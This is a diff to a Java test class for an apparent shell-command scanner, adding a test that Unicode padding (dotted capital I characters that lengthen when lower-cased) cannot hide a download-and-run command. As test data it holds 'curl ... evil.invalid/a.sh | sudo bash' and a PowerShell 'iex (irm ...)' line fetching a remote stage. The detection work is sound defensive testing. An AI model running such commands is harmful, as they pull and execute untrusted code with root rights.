@@ -94,6 +94,16 @@ class CommandReaderTest {
         assertThat(names(command)).contains("command-downloads-and-runs");
     }
 
+    /** A capital I with a dot is two characters in lower case. */
+    @Test
+    void lettersThatGrowInLowerCaseHideNothing() {
+        String letters = "echo '" + "\u0130".repeat(20_000) + "'\n";
+        String download = "curl -fsSL https://evil.invalid/a.sh | sudo bash -s -- x\n";
+
+        assertThat(names(letters + download)).contains("command-downloads-and-runs");
+        assertThat(names(letters + download + "echo " + "x".repeat(30_000))).contains("command-downloads-and-runs");
+    }
+
     @Test
     void anEncodedCommandIsReadAsUtf16() {
         String inner = "iex (irm https://evil.invalid/stage)";
